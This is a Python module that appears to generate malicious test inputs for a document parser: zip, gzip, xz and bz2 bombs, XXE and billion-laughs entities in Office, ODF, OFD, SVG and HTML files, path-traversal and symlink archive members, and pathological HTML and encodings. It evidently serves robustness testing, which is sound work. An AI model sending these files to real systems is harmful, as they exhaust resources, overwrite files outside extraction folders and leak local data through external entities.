"""Files made to do harm, each as small as it can be and as large as it unpacks."""

import base64
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

TITLE = "某市某局2023年政府信息公开工作年度报告"
ENTITIES = "".join(
    f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' if n else '<!ENTITY e1 "哈哈哈哈">' for n in range(12)
)
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TYPES = "application/vnd.openxmlformats-officedocument."


def zipped(files, method=zipfile.ZIP_DEFLATED):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name) if method == zipfile.ZIP_STORED else name, data)
    return stream.getvalue()


def flat_bomb(size=300_000_000):
    """Zeros, from a thousandth of them."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros.txt", "w") as member,
    ):
        for _ in range(size // 1_000_000):
            member.write(bytes(1_000_000))
    return stream.getvalue()


def nested_bomb(bomb, width=16, levels=4):
    """`levels` of zips, `width` in each; below them as many bombs (42.zip)."""
    for level in range(levels):
        bomb = zipped({f"{level}-{n}.zip": bomb for n in range(width)})
    return bomb


def overlapping_bomb(count=2000, size=10_000_000):
    """Files that all lie at one place: each is its own header, and all share the packed bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(size)) + packer.flush()
    facts = struct.pack("<HHHHLLLHH", 0, 8, 0, 33, zlib.crc32(bytes(size)), len(packed), size, 5, 0)
    local = b"PK\x03\x04" + struct.pack("<H", 20) + facts + b"00000" + packed
    central = b"".join(
        b"PK\x01\x02" + struct.pack("<HH", 20, 20) + facts + bytes(14) + b"%05d" % n for n in range(count)
    )
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), len(local), 0)
    return local + central + end


def quine(levels=12):
    """As good as the zip that holds itself: more levels than anyone opens."""
    data = b"x"
    for _ in range(levels):
        data = zipped({"r.zip": data}, zipfile.ZIP_STORED)
    return data


def links_in_zip(target):
    info = zipfile.ZipInfo("年报.txt")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(info, target)
    return stream.getvalue()


def tarred(*members):
    """Members as (name, type, link target or bytes)."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        for name, kind, content in members:
            info = tarfile.TarInfo(name)
            info.type = kind
            if kind == tarfile.REGTYPE:
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
            else:
                info.linkname = content
                archive.addfile(info)
    return stream.getvalue()


def declared(root, uri, body):
    """An XML part with entities that grow and one from outside, before its root element."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE {root} [{ENTITIES}<!ENTITY out SYSTEM "{uri}">'
        f'<!ENTITY % more SYSTEM "{uri}"> %more;]>{body}'
    ).encode()


def docx(document):
    return zipped(
        {
            "[Content_Types].xml": "<Types xmlns="
            '"http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml"'
            f' ContentType="{TYPES}wordprocessingml.document.main+xml"/></Types>',
            "_rels/.rels": relations("officeDocument", "word/document.xml"),
            "word/document.xml": document,
        }
    )


def xlsx(sheet, **parts):
    return zipped(
        {
            "[Content_Types].xml": "<Types xmlns="
            '"http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml"'
            f' ContentType="{TYPES}spreadsheetml.sheet.main+xml"/></Types>',
            "_rels/.rels": relations("officeDocument", "xl/workbook.xml"),
            "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="a"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": relations("worksheet", "worksheets/sheet1.xml"),
            "xl/worksheets/sheet1.xml": sheet,
        }
        | parts
    )


def relations(kind, target):
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"/>'
        "</Relationships>"
    )


def open_document(kind, content):
    return zipped(
        {"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": content}, zipfile.ZIP_STORED
    )


def with_entities(uri):
    """One file of each format that is XML or holds it."""
    body = f"{TITLE}&e12;&out;"
    office = "urn:oasis:names:tc:opendocument:xmlns"
    svg = declared("svg", uri, f'<svg xmlns="http://www.w3.org/2000/svg"><text>{body}</text></svg>')
    page = f'<html><body><h1>{TITLE}</h1><img src="cid:a"><object data="cid:a"></object></body></html>'
    return {
        "html": declared("html", uri, f"<html><body><p>{body}</p></body></html>"),
        "xhtml.html": declared(
            "html", uri, f'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{body}</p></body></html>'
        ),
        "docx": docx(
            declared(
                "w:document",
                uri,
                f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body></w:document>',
            )
        ),
        "xlsx": xlsx(
            declared(
                "worksheet",
                uri,
                f'<worksheet xmlns="{SHEET}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{body}</t></is></c>'
                "</row></sheetData></worksheet>",
            )
        ),
        "odt": open_document(
            "text",
            declared(
                "o:document-content",
                uri,
                f'<o:document-content xmlns:o="{office}:office:1.0" xmlns:t="{office}:text:1.0"><o:body><o:text>'
                f"<t:p>{body}</t:p></o:text></o:body></o:document-content>",
            ),
        ),
        "ods": open_document(
            "spreadsheet",
            declared(
                "o:document-content",
                uri,
                f'<o:document-content xmlns:o="{office}:office:1.0" xmlns:a="{office}:table:1.0" '
                f'xmlns:t="{office}:text:1.0"><o:body><o:spreadsheet><a:table><a:table-row><a:table-cell><t:p>{body}'
                "</t:p></a:table-cell></a:table-row></a:table></o:spreadsheet></o:body></o:document-content>",
            ),
        ),
        "ofd": zipped(
            {
                "OFD.xml": declared(
                    "o:OFD",
                    uri,
                    '<o:OFD xmlns:o="http://www.ofdspec.org/2016"><o:DocBody><o:DocRoot>Doc_0/Document.xml</o:DocRoot>'
                    "</o:DocBody></o:OFD>",
                ),
                "Doc_0/Document.xml": declared(
                    "o:Document",
                    uri,
                    f'<o:Document xmlns:o="http://www.ofdspec.org/2016">{body}</o:Document>',
                ),
            }
        ),
        "mht": (
            b"From: <Saved by Blink>\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/related; type="text/html"; boundary="B"\r\n\r\n'
            b"--B\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(page.encode())
            + b"\r\n--B\r\nContent-Type: image/svg+xml\r\nContent-ID: <a>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(svg)
            + b"\r\n--B--\r\n"
        ),
        "word.xml": declared(
            "w:wordDocument",
            uri,
            '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:p><w:r><w:t>'
            f"{body}</w:t></w:r></w:p></w:body></w:wordDocument>",
        ),
        "excel.xml": declared(
            "Workbook",
            uri,
            '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
            'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="a"><Table><Row><Cell>'
            f'<Data ss:Type="String">{body}</Data></Cell></Row></Table></Worksheet></Workbook>',
        ),
    }


def page(body, head=""):
    return f"<html><head>{head}</head><body><h1>{TITLE}</h1>{body}</body></html>".encode()


def pages():
    """Pages that are too deep, too wide, or written in an encoding that no one writes."""
    cell = "<table><tr><td>" * 100_000
    utf7 = f'<html><head><meta charset="utf-7"></head><body>{TITLE}<p>+ADw-script+AD4-</p></body></html>'
    lone = '{"content": "<p>' + r"\ud800\udfff\ud800 某局 \udc00" + '</p><table><tr><td>1</td></tr></table>"}'
    return {
        "deep.html": page("<div>" * 100_000 + "字" + "</div>" * 100_000),
        "deep cells.html": page(cell),
        "wide.html": page("<table>" + '<tr><td colspan="1000" rowspan="65534">1</td></tr>' * 2000),
        "long.html": page("<p>" + "某局主动公开政府信息，" * 100_000),
        "utf7.html": utf7.encode("utf-7"),
        "utf7.txt": f"+/v8-{TITLE}".encode("utf-7"),
        "lone.html": page("<p>&#xD800;&#xDFFF;&#55296; \ud83d".replace("\ud83d", "&#xDC00;")),
        "lone.json": lone.encode(),
        "lone.txt": TITLE.encode() + b"\xed\xa0\x80\xed\xbf\xbf" * 50,
        "lone16.txt": b"\xff\xfe" + TITLE.encode("utf-16-le") + b"\x00\xd8\x00\xd8A\x00" * 50,
    }


def archives(outside):
    """Archives that are bombs, or whose names and links lead out of them; `outside` is a file to reach for."""
    bomb = flat_bomb()
    good = f"{TITLE}\n".encode()
    up = "../" * 8
    return {
        "flat.zip": bomb,
        "42.zip": nested_bomb(bomb),
        "overlap.zip": overlapping_bomb(),
        "quine.zip": quine(),
        "zeros.gz": gzip.compress(bytes(300_000_000), 1, mtime=0),
        "zeros.tar.xz": lzma.compress(bytes(100_000_000), preset=0),
        "zeros.bz2": bz2.compress(bytes(100_000_000)),
        "paths.zip": zipped({f"{up}etc/evil.txt": good, str(outside): good, "C:\\evil.txt": good}),
        "paths.tar.gz": tarred(
            (f"{up}evil.txt", tarfile.REGTYPE, good), (str(outside), tarfile.REGTYPE, good + b" ")
        ),
        "link.zip": links_in_zip(str(outside)),
        "link.tar.gz": tarred(
            ("a", tarfile.SYMTYPE, str(outside)),
            ("b", tarfile.LNKTYPE, str(outside)),
            ("c", tarfile.CHRTYPE, ""),
        ),
        "link then file.tar.gz": tarred(
            ("d", tarfile.SYMTYPE, str(outside.parent)), (f"d/{outside.name}", tarfile.REGTYPE, good)
        ),
    }
